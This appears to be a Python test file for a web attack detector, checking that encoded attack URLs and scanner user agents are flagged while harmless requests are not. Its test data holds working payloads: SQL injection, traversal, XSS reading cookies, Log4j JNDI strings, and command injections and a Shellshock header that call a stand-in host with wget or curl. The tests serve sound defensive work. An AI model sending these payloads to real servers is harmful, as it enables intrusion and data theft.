"""Patterns of attacks: what is found however it is written, and what honest requests may hold."""

import pytest

from pipeline.detect.patterns import Patterns
from pipeline.detect.readable import BETWEEN, readable, readable_url
from pipeline.detect.rules import load
from tests.cost import least_seconds

PATTERNS = Patterns(load())
ATTACKS = [
    ("sql-injection", "/item?id=7'+OR+'1'='1"),
    ("sql-injection", "/item?id=7%20UNION%20ALL%20SELECT%20NULL,NULL--"),
    ("sql-injection", "/item?id=7%2527%2520UnIoN%2520SeLeCt%25201"),
    ("sql-injection", "/item?id=7/**/union/**/select/**/1,2"),
    ("sql-injection", "/item?id=7;DROP+TABLE+users"),
    ("sql-injection", "/item?id=7+AND+1=1"),
    ("sql-injection", "/item?q=x')+AND+SLEEP(5)--+"),
    ("command-injection", "/ping?host=127.0.0.1;cat+/var/x"),
    ("command-injection", "/ping?host=%60id%60"),
    ("command-injection", "/ping?host=127.0.0.1%3Bid"),
    ("command-injection", "/ping?host=1|wget${IFS}http://198.51.100.1/x"),
    ("command-injection", "/cgi?x=$(curl+198.51.100.1)"),
    ("traversal", "/static/../../../../home/x"),
    ("traversal", "/download?file=..%2F..%2F..%2Fboot"),
    ("traversal", "/download?file=..%252f..%252fx"),
    ("traversal", "/scripts/..%c0%af..%c0%afx"),
    ("traversal", "/view?page=/proc/self/environ"),
    ("sensitive-file", "/.git/config"),
    ("sensitive-file", "/app/.env"),
    ("sensitive-file", "/backup.sql"),
    ("sensitive-file", "/wp-config.php.bak"),
    ("template-injection", "/hello?name={{7*7}}"),
    ("template-injection", "/hello?name=%7B%7Bconfig.items()%7D%7D"),
    ("template-injection", "/hello?name=${7*7}"),
    ("log4j", "/?x=${jndi:ldap://198.51.100.1/a}"),
    ("log4j", "/?x=$%7B$%7B::-j%7Dndi:rmi://198.51.100.1/a%7D"),
    ("log4j", "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%7D"),
    ("xss", "/search?q=<script>alert(1)</script>"),
    ("xss", "/search?q=%253Cimg%2520src=x%2520onerror=alert(1)%253E"),
    ("xss", '/search?q="><svg/onload=confirm`1`>'),
    ("xss", "/go?to=javascript:alert(document.cookie)"),
    ("probe", "/wp-login.php"),
    ("probe", "/phpMyAdmin/index.php"),
]
HONEST = [
    "/",
    "/search?q=union+station+select+hotels",
    "/search?q=cats+and+dogs",
    "/search?q=rock+%26+roll",
    "/news?title=Don't+drop+the+table",
    "/items?sort=name|id&fields=name;id",
    "/items?filter=price>10&order=by",
    "/page?onload=start&render=explicit",
    "/download/v1..2/file.tar.gz",
    "/docs/../docs/index.html",
    "/.well-known/acme-challenge/x",
    "/api/v1/users/5?expand=profile,settings",
    "/assets/alert.js?v=1.2",
    "/login?next=/account/settings",
    "/t?text=100%25+sure",
    "/r?url=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc",
    "/blog/how-to-select-a-script",
    "/q?expr=(a+or+b)",
    "/caf%C3%A9?naïve=yes",
]


def found(url: str) -> set[str]:
    """Return the names of the rules whose pattern a URL has."""
    path, _, query = url.partition("?")
    return {pattern.name for pattern in PATTERNS.found("url", path, query or None)}


@pytest.mark.parametrize(("rule", "url"), ATTACKS)
def test_attacks_are_found(rule: str, url: str) -> None:
    """In either case, encoded once or twice, with comments for spaces."""
    assert rule in found(url)


@pytest.mark.parametrize("url", HONEST)
def test_honest_requests_are_not(url: str) -> None:
    """Words of attacks in other places, and unusual but harmless characters, are nothing."""
    assert found(url) == set()


@pytest.mark.parametrize(
    ("agent", "rules"),
    [
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", {"scanner"}),
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", {"scanner"}),
        ("${jndi:ldap://198.51.100.1/a}", {"log4j"}),
        ("() { :; }; /bin/bash -c 'curl 198.51.100.1'", {"command-injection"}),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", set()),
        ("Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119", set()),
        ("Mozilla/5.0 (Linux; U; Android 4.1.2; id-id; GT-S6310) AppleWebKit/534.30", set()),
        ("curl/8.5.0", set()),
    ],
)
def test_agents(agent: str, rules: set[str]) -> None:
    """Tools that look for weaknesses give their name; a language or a library is none."""
    assert {pattern.name for pattern in PATTERNS.found("agent", agent)} == rules


@pytest.mark.parametrize(
    ("text", "read"),
    [
        ("%41%42c", "abc"),
        ("%2541", "a"),
        ("%252541", "%41"),
        ("%c0%ae%c0%af", "./"),
        ("%u002e%u002F", "./"),
        ("100%", "100%"),
        ("%zz", "%zz"),
        ("%ff", "\N{REPLACEMENT CHARACTER}"),
        ("%1f", " "),
    ],
)
def test_text_is_read_as_servers_do(text: str, read: str) -> None:
    """Decoded twice and no more, with what old servers took for dots; what is no encoding stays."""
    assert readable(text) == read


def test_parameters_are_read_apart() -> None:
    """What ends one parameter does not begin the next, and only a query has spaces for plus signs."""
    assert readable_url("/a+b", "x=1+2&y=%26") == BETWEEN.join(("/a+b", "x=1 2", "y=&"))


@pytest.mark.parametrize(
    "part",
    ["' or ", "../", "<script", "${", "{{", "%25", "select ", ";cat ", "a" * 10, "/.git", " ", "(", "=x'"],
)
def test_hostile_text_takes_no_longer(part: str) -> None:
    """Text made to be slow, however long, takes a few milliseconds: the rest of it is not read."""
    text = part * (200_000 // len(part))

    def find() -> None:
        PATTERNS.found.cache_clear()  # or it would only be slow once
        PATTERNS.found("url", text, text)
        PATTERNS.found("agent", text)

    assert least_seconds(find, 0.1) < 0.1
